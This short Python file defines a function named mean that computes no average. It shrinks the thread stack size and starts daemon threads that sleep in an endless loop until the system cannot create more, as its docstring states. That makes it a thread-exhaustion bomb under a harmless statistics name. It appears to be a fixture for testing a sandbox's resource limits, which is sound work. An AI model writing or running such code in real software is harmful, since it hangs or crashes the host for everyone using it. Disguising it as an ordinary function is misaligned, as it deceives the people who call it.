"""Starts threads with small stacks until there can be no more; none of them ends."""

import threading
import time


def mean(values):
    threading.stack_size(32 << 10)
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
